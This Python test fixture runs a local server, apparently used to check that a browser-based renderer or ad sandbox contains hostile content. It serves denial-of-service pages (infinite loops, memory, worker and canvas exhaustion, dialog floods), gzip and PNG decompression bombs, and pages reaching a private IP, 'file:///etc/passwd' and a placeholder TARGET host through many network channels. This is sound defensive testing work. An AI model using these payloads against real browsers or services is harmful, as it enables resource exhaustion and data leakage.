"""A local server of pages, pictures and answers that do harm, and one that only counts visitors."""

import asyncio
import gzip
import io
import socket
import struct
import threading
import time
import zlib
from collections import Counter
from collections.abc import AsyncIterator, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from functools import cache

import uvicorn
from PIL import Image
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, RedirectResponse, Response, StreamingResponse
from starlette.routing import Route
from starlette.types import Receive, Scope, Send

RED, BLUE = (200, 30, 40), (20, 60, 220)
_CHUNK = b"\0" * 65536
_BIG = 200 * 1024 * 1024
_START_TIMEOUT = 60.0  # seconds

_LOOP = "while (true) {}"
_BOX = '<main style="width:300px;height:120px;background:linear-gradient(90deg,red,blue)"></main>'
_DRAW = """var place = document.getElementById(new URL(document.currentScript.src)
  .searchParams.get("htmlParentId"));
place.innerHTML = '<div style="width:320px;height:180px;background:rgb(20,60,220)">' +
  '<div style="width:160px;height:180px;background:rgb(200,30,40)"></div></div>';
window[new URL(document.currentScript.src).searchParams.get("responseCallback")]();"""
_AD = (
    '<div style="width:320px;height:180px;background:rgb(20,60,220)">'
    '<div style="width:160px;height:180px;background:rgb(200,30,40)"></div></div>'
)
_REACH_OUT = """
fetch("http://TARGET/fetch").catch(() => 0);
fetch("http://TARGET/post", {method: "POST", body: "x", mode: "no-cors"}).catch(() => 0);
navigator.sendBeacon("http://TARGET/beacon", "x");
new Image().src = "http://TARGET/image";
new EventSource("http://TARGET/events");
try { new WebSocket("ws://TARGET/socket"); } catch (e) {}
try { new WebTransport("https://TARGET/transport").ready.catch(() => 0); } catch (e) {}
const code = 'fetch("http://TARGET/worker").catch(() => 0); new WebSocket("ws://TARGET/ws");';
new Worker(URL.createObjectURL(new Blob([code], {type: "text/javascript"})));
if (navigator.serviceWorker) navigator.serviceWorker.register("/worker.js").catch(() => 0);
const peer = new RTCPeerConnection({iceServers: [{urls: "stun:TARGET"}, {urls: "turn:TARGET" +
  "?transport=tcp", username: "u", credential: "c"}]});
peer.createDataChannel("x");
peer.createOffer().then((offer) => peer.setLocalDescription(offer));
for (const rel of ["prefetch", "preload", "preconnect", "dns-prefetch", "stylesheet"]) {
  const link = document.createElement("link");
  link.rel = rel; link.href = "http://TARGET/" + rel; link.as = "script";
  document.head.appendChild(link);
}
const frame = document.createElement("iframe");
frame.src = "http://TARGET/frame";
document.body.appendChild(frame);
window.open("http://TARGET/popup");
"""

# What no bound of JavaScript's own objects stops.
_EAT = "const kept = []; setInterval(() => kept.push(new Uint8Array(32 << 20).fill(1)), 5);"
_WORKERS = (
    f"for (let i = 0; i < 4; i++) new Worker(URL.createObjectURL(new Blob([`{_EAT}`])));"
    "document.write('<img src=/trickle>');"  # so that the page is not drawn before that
)
_CANVASES = """const kept = []; setInterval(() => {
  const one = document.createElement("canvas"); one.width = one.height = 4000;
  const pen = one.getContext("2d"); pen.fillRect(0, 0, 4000, 4000); kept.push(one);
  document.body.append(one);
}, 5); document.write('<img src=/trickle>');"""
_IFRAMES = f"""setInterval(() => {{ const one = document.createElement("iframe");
  one.srcdoc = `<script>{_EAT}</` + "script>"; document.body.append(one); }}, 20);
  document.write('<img src=/trickle>');"""

PAGES: dict[str, str] = {
    "plain": _BOX,
    "loop": f"{_BOX}<script>{_LOOP}</script>",
    "late-loop": f"{_BOX}<script>setTimeout(() => {{ {_LOOP} }}, 50)</script>",
    "unload": f"{_BOX}<script>addEventListener('beforeunload', (e) => {{ e.preventDefault();"
    f"e.returnValue = 'stay'; {_LOOP} }}); addEventListener('pagehide', () => {{ {_LOOP} }});"
    "</script>",
    "dialogs": f"<script>for (let i = 0; i < 20; i++) {{ alert(i); confirm(i); prompt(i); }}"
    f"</script>{_BOX}",
    "endless-dialogs": f"{_BOX}<script>while (true) alert(1)</script>",
    "popups": f"{_BOX}<script>for (let i = 0; i < 5; i++) window.open('/page/plain');</script>",
    "download": f"{_BOX}<a id=a href='/page/plain' download=x></a><script>a.click()</script>",
    "memory": f"{_BOX}<script>const kept = []; while (true) kept.push(new Array(1e5).fill({{}})"
    ".map((_, i) => ({i})));</script>",
    "workers": f"{_BOX}<script>{_WORKERS}</script>",
    "canvases": f"{_BOX}<script>{_CANVASES}</script>",
    "iframes": f"{_BOX}<script>{_IFRAMES}</script>",
    # Not drawn before something has arrived that takes its time.
    "slow": f"{_BOX}<img src='/late'>",
    "reload": f"{_BOX}<script>location.reload()</script>",
    "never-loads": f"{_BOX}<img src='/trickle'><script src='/trickle?2'></script>",
    # Far more than a page may make, but not so many that the browser's memory ends it first.
    "requests": f"{_BOX}<script>let sent = 0; setInterval(() => {{ for (let i = 0; i < 20; i++) "
    "if (sent++ < 2000) fetch('/status/204?' + Math.random()) }, 5)</script>",
    "heavy": f"{_BOX}<script>for (let i = 0; i < 30; i++) fetch('/sized?' + i)</script>",
    "blank": "<main style='width:200px;height:100px'></main>",
    "empty": "<main style='height:0'></main>",
    "private-part": f"{_BOX}<img src='http://10.0.0.1/x.png'>",
    "private-move": f"{_BOX}<script>location = 'http://10.0.0.1/secret?token=1'</script>",
    "file-part": f"{_BOX}<iframe src='file:///etc/passwd'></iframe>",
    "reach-out": f"{_BOX}<script>{_REACH_OUT}</script>",
    "reach-out-by-markup": f"""{_BOX}<link rel=preconnect href='http://TARGET'>
<meta http-equiv=refresh content="30;url=http://TARGET/m"><iframe src='http://TARGET/f'></iframe>
<img src='http://TARGET/i'><link rel=stylesheet href='http://TARGET/s'>""",
}

SCRIPTS: dict[str, str] = {
    "draws": _DRAW,
    "silent": "",
    "calls-only": "window[new URL(document.currentScript.src).searchParams"
    ".get('responseCallback')]();",
    "loop": _LOOP,
    "draws-then-loops": _DRAW + "setTimeout(() => { while (true) {} }, 20);",
    "throws": "throw new Error('no');",
    "replaces-body": f"document.body.outerHTML = `<body>{_AD}</body>`;",
    "empties-body": f"document.body.innerHTML = `{_AD}`;",
    "writes": f"setTimeout(() => {{ document.open(); document.write(`{_AD}`); "
    "document.close(); }, 20);",
    "draws-beside": f"document.body.insertAdjacentHTML('beforeend', `{_AD}`);",
    "text-only": "document.body.innerHTML = '<body style=\"font:60px sans-serif\">Buy now, cheap';",
    "removes-body": "document.body.remove();",
    "removes-all": "document.documentElement.remove();",
    "breaks-ours": _DRAW + "document.querySelector = () => { throw new Error('no'); };",
    "lies": _DRAW + "Element.prototype.getBoundingClientRect = () => "
    "({left: NaN, top: 'x', right: Infinity, bottom: {}, width: NaN, height: 9});",
}


@dataclass
class HostileServer:
    """A running server.

    Attributes:
        url: its address, without a slash at the end.
        hits: requests by path.
        sent: bytes of bodies that were streamed, by path.
        closed: requests that are over, by path.
    """

    url: str
    hits: Counter[str] = field(default_factory=Counter)
    sent: Counter[str] = field(default_factory=Counter)
    closed: Counter[str] = field(default_factory=Counter)

    @property
    def host(self) -> str:
        """`host:port`, as the rules want it."""
        return self.url.removeprefix("http://")

    async def until_closed(self, path: str) -> None:
        """Wait until every request for a path is over: answered, or its connection closed."""
        async with asyncio.timeout(60):
            while self.closed[path] < self.hits[path]:
                await asyncio.sleep(0.01)


def draw(width: int, height: int, *, picture_format: str = "PNG", is_plain: bool = False) -> bytes:
    """A picture, red on the left and blue on the right, or all red."""
    image = Image.new("RGB", (width, height), RED)
    if not is_plain:
        image.paste(BLUE, (width // 2, 0, width, height))
    target = io.BytesIO()
    image.save(target, format=picture_format)
    return target.getvalue()


def draw_animation(width: int, height: int, frames: int = 3) -> bytes:
    """A GIF whose first frame is red and whose others are blue."""
    images = [Image.new("RGB", (width, height), RED if n == 0 else BLUE) for n in range(frames)]
    for n, image in enumerate(images):
        image.putpixel((0, 0), (n, n, n))
    target = io.BytesIO()
    images[0].save(
        target, format="GIF", save_all=True, append_images=images[1:], duration=20, loop=0
    )
    return target.getvalue()


@cache
def make_gzip_bomb() -> bytes:
    """100 MB of zeros, compressed."""
    return gzip.compress(_CHUNK * 16 * 100)


@cache
def make_png_bomb(side: int = 20_000) -> bytes:
    """A small PNG with a great many pixels, all of them there."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
        )

    packer = zlib.compressobj()
    row = b"\0" * (1 + side // 8)
    data = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")
    )


@contextmanager
def serve_hostile() -> Iterator[HostileServer]:
    """Run the server in a thread."""
    listener = socket.create_server(("127.0.0.1", 0))
    made = HostileServer(f"http://127.0.0.1:{listener.getsockname()[1]}")
    server = uvicorn.Server(
        uvicorn.Config(_Answers(made), log_level="critical", timeout_graceful_shutdown=0)
    )
    thread = threading.Thread(target=server.run, args=([listener],), daemon=True)
    thread.start()
    deadline = time.monotonic() + _START_TIMEOUT
    while not server.started:
        assert time.monotonic() < deadline, "the server did not start"
        time.sleep(0.005)
    try:
        yield made
    finally:
        server.should_exit = True
        thread.join()
        listener.close()


@contextmanager
def count_visitors() -> Iterator[tuple[str, list[bytes]]]:
    """A host:port that nobody trusts, on TCP and UDP, and what arrived there."""
    visits: list[bytes] = []
    listener = socket.create_server(("127.0.0.1", 0))
    datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    datagrams.bind(listener.getsockname())
    is_over = threading.Event()

    def accept() -> None:
        listener.settimeout(0.05)
        while not is_over.is_set():
            try:
                connection, _ = listener.accept()
            except TimeoutError:
                continue
            visits.append(b"connection")
            connection.close()

    def receive() -> None:
        datagrams.settimeout(0.05)
        while not is_over.is_set():
            try:
                visits.append(datagrams.recv(2048))
            except TimeoutError:
                continue

    threads = [threading.Thread(target=work, daemon=True) for work in (accept, receive)]
    for thread in threads:
        thread.start()
    try:
        yield f"127.0.0.1:{listener.getsockname()[1]}", visits
    finally:
        is_over.set()
        for thread in threads:
            thread.join()
        listener.close()
        datagrams.close()


async def read_visits(address: str, visits: list[bytes]) -> list[bytes]:
    """Who was at `count_visitors` until now: all that came before a visit of our own."""
    host, _, port = address.partition(":")
    with socket.create_connection((host, int(port))):
        async with asyncio.timeout(60):
            while b"connection" not in visits:
                await asyncio.sleep(0.01)
    visits.remove(b"connection")
    return visits


class _Answers:
    """The routes over what is counted."""

    def __init__(self, server: HostileServer) -> None:
        self._server = server
        self._app = Starlette(
            routes=[
                Route("/picture", self.picture),
                Route("/redirect", self.redirect),
                Route("/round", self.go_round),
                Route("/big", self.big),
                Route("/trickle", self.trickle),
                Route("/late", self.late),
                Route("/cut", self.cut),
                Route("/bomb.gz", self.gzip_bomb),
                Route("/packed", self.packed),
                Route("/peer", self.peer),
                Route("/brotli", self.brotli),
                Route("/bomb.png", self.png_bomb),
                Route("/truncated", self.truncated),
                Route("/sized", self.sized),
                Route("/empty", self.empty),
                Route("/status/{code:int}", self.status),
                Route("/page/{name}", self.page),
                Route("/script/{name}", self.script),
            ],
        )

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        try:
            await self._app(scope, receive, send)
        finally:
            self._server.closed[scope.get("path", "")] += 1

    def _count(self, request: Request) -> None:
        self._server.hits[request.url.path] += 1

    async def picture(self, request: Request) -> Response:
        self._count(request)
        query = request.query_params
        kind = query.get("format", "PNG")
        content = draw(
            int(query.get("width", 60)),
            int(query.get("height", 40)),
            picture_format=kind,
            is_plain="plain" in query,
        )
        return Response(content, media_type=f"image/{kind.lower()}")

    async def redirect(self, request: Request) -> Response:
        self._count(request)
        return RedirectResponse(request.query_params["to"])

    async def go_round(self, request: Request) -> Response:
        self._count(request)
        return RedirectResponse("/round")

    async def big(self, request: Request) -> Response:
        self._count(request)
        headers = {"content-length": str(_BIG)} if "declared" in request.query_params else {}
        return StreamingResponse(self._stream(request, _BIG), headers=headers)

    async def trickle(self, request: Request) -> Response:
        self._count(request)
        return StreamingResponse(self._drip(request), media_type="image/png")

    async def late(self, request: Request) -> Response:
        self._count(request)
        await asyncio.sleep(3)
        return Response(draw(10, 10), media_type="image/png")

    async def cut(self, request: Request) -> Response:
        self._count(request)
        return StreamingResponse(self._stream(request, 1000), headers={"content-length": "5000"})

    async def gzip_bomb(self, request: Request) -> Response:
        self._count(request)
        return Response(make_gzip_bomb(), headers={"content-encoding": "gzip"})

    async def packed(self, request: Request) -> Response:
        """Packed, perhaps in two pieces, perhaps with so many bytes only, of which all arrive."""
        self._count(request)
        content = draw(60, 40)
        middle = len(content) // 2 if "pieces" in request.query_params else len(content)
        packed = gzip.compress(content[:middle])
        if middle < len(content):
            packed += gzip.compress(content[middle:])
        kept = int(request.query_params.get("kept", len(packed)))
        return Response(packed[:kept], headers={"content-encoding": "gzip"})

    async def peer(self, request: Request) -> Response:
        """The port that the connection comes from, which is another for every connection."""
        self._count(request)
        return Response(str(request.client.port if request.client else 0))

    async def brotli(self, request: Request) -> Response:
        self._count(request)
        return Response(b"whatever", headers={"content-encoding": "br"})

    async def png_bomb(self, request: Request) -> Response:
        self._count(request)
        return Response(make_png_bomb(), media_type="image/png")

    async def truncated(self, request: Request) -> Response:
        self._count(request)
        content = draw(300, 300)
        return Response(content[: len(content) // 2], media_type="image/png")

    async def sized(self, request: Request) -> Response:
        self._count(request)
        return StreamingResponse(self._stream(request, 15 * 1024 * 1024))

    async def empty(self, request: Request) -> Response:
        self._count(request)
        return Response(b"")

    async def status(self, request: Request) -> Response:
        self._count(request)
        return Response(b"no", status_code=request.path_params["code"])

    async def page(self, request: Request) -> Response:
        self._count(request)
        target = request.query_params.get("target", "")
        return HTMLResponse(
            "<!doctype html><body>" + PAGES[request.path_params["name"]].replace("TARGET", target)
        )

    async def script(self, request: Request) -> Response:
        self._count(request)
        return Response(SCRIPTS[request.path_params["name"]] or " ", media_type="text/javascript")

    async def _stream(self, request: Request, size: int) -> AsyncIterator[bytes]:
        sent = 0
        while sent < size:
            chunk = _CHUNK[: size - sent]
            sent += len(chunk)
            self._server.sent[request.url.path] += len(chunk)
            yield chunk
            if await request.is_disconnected():
                return

    async def _drip(self, request: Request) -> AsyncIterator[bytes]:
        for byte in draw(10, 10)[:50]:
            if await request.is_disconnected():
                return
            self._server.sent[request.url.path] += 1
            yield bytes([byte])
            await asyncio.sleep(0.2)
        while not await request.is_disconnected():
            yield b"\0"
            await asyncio.sleep(0.2)
